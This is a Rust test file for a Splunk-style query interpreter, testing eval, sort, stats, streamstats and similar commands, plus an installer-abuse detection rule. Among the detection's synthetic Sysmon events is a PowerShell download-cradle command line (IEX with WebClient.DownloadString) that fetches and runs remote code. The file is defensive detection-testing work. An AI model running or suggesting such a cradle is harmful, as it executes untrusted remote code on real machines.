//! The commands behind the pipes.

use super::super::parse::INSTALLER;
use super::{check, column, error, ids, row, run};
use rulecast_ir::Row;

/// Rows of a time in seconds and two fields; `-` for a field that a row lacks.
fn stream(rows: &[(u64, &str, &str)]) -> Vec<Row> {
    let each = rows.iter().zip(1..).map(|((time, k, v), id)| {
        let time = (time * 1000).to_string();
        let mut fields = vec![("@time", time.as_str())];
        fields.extend([("k", *k), ("v", *v)].into_iter().filter(|(_, value)| *value != "-"));
        row(id, &fields)
    });
    each.collect()
}

#[test]
fn eval_goes_from_left_to_right_and_null_removes() {
    let rows = [row(1, &[("a", "2"), ("gone", "x")])];
    assert_eq!(column("* | eval b=a+1, c=b*2 | eval a=c", &rows, "a"), "6");
    assert_eq!(column("* | eval gone=null()", &rows, "gone"), "-");
    assert_eq!(ids("* | eval x=1 | search x=1 a>1", &rows), [1]);
}

#[test]
fn sort_puts_missing_last_both_ways() {
    // Search Reference, `sort`.
    let rows = stream(&[(1, "10", "-"), (2, "9", "-"), (3, "-", "-"), (4, "a", "-"), (5, "B", "-"), (6, "9", "x")]);
    assert_eq!(ids("* | sort 0 k, _time", &rows), [2, 6, 1, 5, 4, 3]);
    assert_eq!(ids("* | sort 0 -k, -_time", &rows), [4, 5, 1, 6, 2, 3]);
    assert_eq!(ids("* | sort 2 _time", &rows), [1, 2]);
    assert_eq!(ids("* | sort - _time | head 1", &rows), [6]);
    let rows = stream(&[(1, "10.0.0.9", "-"), (2, "9.0.0.1", "-"), (3, "10.0.0.10", "-")]);
    assert_eq!(ids("* | sort 0 k", &rows), [2, 1, 3]);
    let many: Vec<_> = (0..10_001).map(|time| (time, "a", "-")).collect();
    let many = stream(&many);
    assert_eq!(run("* | sort _time", &many).unwrap().len(), 10_000);
    assert_eq!(run("* | sort 0 _time", &many).unwrap().len(), 10_001);
}

#[test]
fn dedup_keeps_the_first_and_drops_what_lacks_a_field() {
    let rows = stream(&[(1, "a", "x"), (2, "a", "y"), (3, "A", "x"), (4, "-", "x"), (5, "a", "x")]);
    assert_eq!(ids("* | sort 0 _time | dedup k", &rows), [1, 3]);
    assert_eq!(ids("* | sort 0 _time | dedup k, v", &rows), [1, 2, 3]);
    // A search gives the newest first.
    assert_eq!(ids("* | dedup k", &rows), [5, 3]);
}

#[test]
fn columns() {
    let rows = [row(1, &[("a1", "x"), ("a2", "y"), ("b", "z"), ("_raw", "r")])];
    let names = |query: &str| {
        let found = run(query, &rows).unwrap();
        found[0].columns.keys().cloned().collect::<Vec<_>>().join(" ")
    };
    assert_eq!(names("* | table b, a*"), "a1 a2 b");
    assert_eq!(names("* | fields b"), "_raw _time b");
    assert_eq!(names("* | fields - a*, _raw"), "_time b");
    assert_eq!(names("* | fields - *"), "_raw _time");
    assert_eq!(names("* | rename b as a1, a2 as c | fields - _*"), "a1 c");
    assert_eq!(column("* | rename b as a1", &rows, "a1"), "z");
    assert_eq!(column(r#"* | rex field=a1 "(?<whole>.)(?<none>q)?""#, &rows, "whole"), "x");
    assert_eq!(column(r#"* | rex "(?<raw>r)" | rex field=b "(?<b>no)""#, &rows, "b"), "z");
}

#[test]
fn streamstats_before_each_row() {
    let rows = stream(&[(1, "a", "5"), (2, "b", "9"), (3, "a", "10"), (4, "-", "99"), (5, "a", "7"), (6, "b", "1")]);
    let sorted = |rest: &str| format!("* | sort 0 _time | streamstats {rest}");
    let keyed = |rest: &str| format!("k=* | sort 0 _time | streamstats {rest}");
    assert_eq!(column(&keyed("current=f window=0 max(v) as m by k"), &rows, "m"), "- - 5 10 9");
    assert_eq!(column(&keyed("max(v) as m by k"), &rows, "m"), "5 9 10 10 9");
    assert_eq!(column(&sorted("current=f window=0 max(v) as m"), &rows, "m"), "- 5 9 10 99 99");
    assert_eq!(column(&sorted("count"), &rows, "count"), "1 2 3 4 5 6");
    assert_eq!(column(&sorted("current=f count"), &rows, "count"), "0 1 2 3 4 5");
    assert_eq!(column(&sorted("window=2 sum(v) as s"), &rows, "s"), "5 14 19 109 106 8");
    assert_eq!(column(&sorted("current=f window=1 last(v) as l"), &rows, "l"), "- 5 9 10 99 7");
    assert_eq!(column(&keyed("window=2 global=f min(_time) as t by k"), &rows, "t"), "1 2 1 3 2");
    // A window of all rows, of which those with the same keys count.
    assert_eq!(column(&keyed("window=2 count as c by k"), &rows, "c"), "1 1 1 2 1");
    assert_eq!(column(&sorted("first(v) as f, dc(k) as d, min(v) as m"), &rows, "d"), "1 2 2 2 2 2");
    assert_eq!(column(&sorted("max(eval(if(k=\"a\", v, null()))) as m"), &rows, "m"), "5 5 10 10 10 10");
    let error = |query: &str| run(query, &rows).unwrap_err().to_string();
    assert_eq!(error(&sorted("count by k")), "`by` of a row that lacks the field is not documented");
}

#[test]
fn streamstats_of_a_time() {
    let rows = stream(&[(1, "a", "5"), (2, "b", "9"), (3, "a", "10"), (14, "a", "4"), (15, "b", "7"), (35, "a", "5")]);
    let sorted = |order: &str, rest: &str| format!("* | sort 0 {order} | streamstats {rest}");
    assert_eq!(column(&sorted("_time", "time_window=12s count by k"), &rows, "count"), "1 1 2 2 1 1");
    assert_eq!(column(&sorted("_time", "time_window=10s sum(v) as s"), &rows, "s"), "5 14 24 4 11 5");
    assert_eq!(
        column(&sorted("-_time", "time_window=25s avg(v) as mean by k"), &rows, "mean"),
        "5 7 4.5 7 8 6.333333333333333"
    );
    let error = |query: &str| run(query, &rows).unwrap_err().to_string();
    // 3 to 14.
    assert_eq!(
        error(&sorted("_time", "time_window=11s count by k")),
        "whether a row exactly as old as `time_window` counts is not documented"
    );
    assert_eq!(
        error(&sorted("v", "time_window=11s count")),
        "`time_window` over rows that are not in the order of time is not evaluated"
    );
}

#[test]
fn stats_stands_for_all_its_rows() {
    let rows = stream(&[(1, "a", "5"), (2, "b", "9"), (3, "a", "x"), (4, "-", "99"), (5, "a", "5")]);
    let found = run("* | stats count, dc(v) as d, max(v) as m, sum(v) as s, values(v) as all by k", &rows).unwrap();
    let ids: Vec<_> = found.iter().map(|row| row.ids.clone()).collect();
    assert_eq!(ids, [vec![1, 3, 5], vec![2]]);
    let query = "* | stats count, dc(v) as d, max(v) as m, sum(v) as s, values(v) as all, avg(v) as mean by k";
    let cells = ["count", "d", "m", "s", "all", "mean"].map(|name| column(query, &rows, name));
    assert_eq!(cells, ["3 1", "2 1", "x 9", "10 9", "5|x 9", "5 9"]);
    assert_eq!(column("nothing=1 | stats count", &rows, "count"), "0");
    assert_eq!(column("* | sort 0 _time | stats list(v) as l first(v) as f", &rows, "l"), "5|9|x|99|5");
    assert_eq!(column("* | stats count by k | search count>1", &rows, "k"), "a");
    let message = error("* | stats count | search `m`", &[]);
    assert_eq!(message, "the macro `m` behind a command that makes new rows is not evaluated");
}

#[test]
fn expanding_and_binning() {
    let rows = [row(1, &[("@time", "130500"), ("m", "a"), ("m", "b"), ("n", "17")])];
    assert_eq!(column("* | mvexpand m", &rows, "m"), "a b");
    assert_eq!(ids("* | mvexpand m | where m=\"b\"", &rows), [1]);
    assert_eq!(ids("* | mvexpand none", &rows), [1]);
    assert_eq!(column("* | bin _time span=1m", &rows, "_time"), "120");
    assert_eq!(column("* | bin span=5 n as low", &rows, "low"), "15");
    assert_eq!(column("* | bin m span=5", &rows, "m"), "a|b");
}

#[test]
fn searches_together() {
    let rows = stream(&[(1, "a", "x"), (2, "b", "x"), (3, "c", "y")]);
    assert_eq!(ids("| multisearch [search k=a | eval s=1] [search v=x | where k=\"b\"]", &rows), [2, 1]);
    // What two of them find comes twice.
    assert_eq!(ids("| multisearch [k=a] [v=x] | sort 0 _time", &rows), [1, 1, 2]);
    assert_eq!(
        error("| multisearch [k=a | dedup k] [k=b]", &[]),
        "a command in `multisearch` that does not stream is not evaluated"
    );
    assert_eq!(error("| multisearch [k=a]", &[]), "`multisearch` of fewer than two searches is not evaluated");
}

#[test]
fn what_is_not_evaluated() {
    assert_eq!(error("* | transaction k maxspan=30s", &[]), "the command `transaction` is not evaluated");
    assert_eq!(error("* | rename a* as b*", &[]), "rename with a wildcard is not evaluated");
    assert_eq!(error("* | bin _time span=1d", &[]), "bin in days is not evaluated");
    assert_eq!(error("* | sort 0 m", &[("m", "a"), ("m", "b")]), "sort of several values is not documented");
    assert_eq!(error("* | stats count by m", &[("m", "a"), ("m", "b")]), "by of several values is not documented");
}

#[test]
fn a_sequence_of_two_steps() {
    // The newest start wins, and each start is used once.
    let query = r#"k=*
        | eval one=if(isnotnull(mvfind(v, "\Aa\z")), 1, 0), two=if(isnotnull(mvfind(v, "\Ab\z")), 1, 0),
            start=if(one=1, _time, null())
        | where one=1 OR two=1
        | sort 0 _time
        | streamstats current=f window=0 max(start) as last by k
        | eval from=if(two=1 AND isnotnull(last) AND _time-last<=30, last, null())
        | where isnotnull(from)
        | dedup k, from"#;
    let rows = stream(&[
        (1, "x", "a"),
        (5, "x", "a"),
        (6, "y", "b"),
        (7, "x", "b"),
        (8, "x", "b"),
        (50, "y", "a"),
        (80, "y", "b"),
        (81, "x", "b"),
        (100, "x", "a"),
        (131, "x", "b"),
    ]);
    assert_eq!(ids(query, &rows), [4, 7]);
    assert_eq!(column(query, &rows, "from"), "5 50");
}

#[test]
fn the_installer_detection_does_what_it_says() {
    let sysmon = ("sourcetype", "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational");
    let index = ("index", "wineventlog");
    let one = ("EventCode", "1");
    let script = [
        index,
        sysmon,
        one,
        ("@time", "1000"),
        ("ParentImage", r"C:\Windows\System32\msiexec.exe"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe"),
        ("CommandLine", "powershell -c dir"),
    ];
    let mut cradle = script;
    cradle[3] = ("@time", "2000");
    cradle[6] = ("CommandLine", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')");
    let callback = |ip: &'static str| {
        [index, sysmon, ("EventCode", "3"), ("@time", "3000"), ("Image", r"C:\msiexec.exe"), ("DestinationIp", ip)]
    };
    let other =
        [index, sysmon, one, ("ParentImage", r"C:\explorer.exe"), ("Image", r"C:\cmd.exe"), ("CommandLine", "x")];
    let rows = [
        row(1, &script),
        row(2, &cradle),
        row(3, &callback("203.0.113.7")),
        row(4, &callback("10.0.0.1")),
        row(5, &other),
        // Its private ranges are not anchored: a defect of the query.
        row(6, &callback("8.10.1.1")),
        // NOT match(…) of a missing field is NULL.
        row(7, &[index, sysmon, ("EventCode", "3"), ("Image", r"C:\msiexec.exe")]),
        row(8, &[("index", "main"), sysmon, one]),
    ];
    assert_eq!(ids(INSTALLER, &rows), [3, 2, 1]);
    let types = "INSTALLER_NETWORK_CALLBACK INSTALLER_DOWNLOAD_CRADLE INSTALLER_SCRIPT_CHILD";
    assert_eq!(column(INSTALLER, &rows, "DetectionType"), types);
    assert_eq!(column(INSTALLER, &rows, "ParentProcessName"), "- - -");
    // `coalesce` never reaches the field behind an empty text: the parent of a 4688 event is not seen.
    check(
        &[
            index,
            ("sourcetype", "WinEventLog:Security"),
            ("EventCode", "4688"),
            ("ParentProcessName", r"C:\msiexec.exe"),
            ("NewProcessName", r"C:\cmd.exe"),
        ],
        &[(INSTALLER, false)],
    );
}
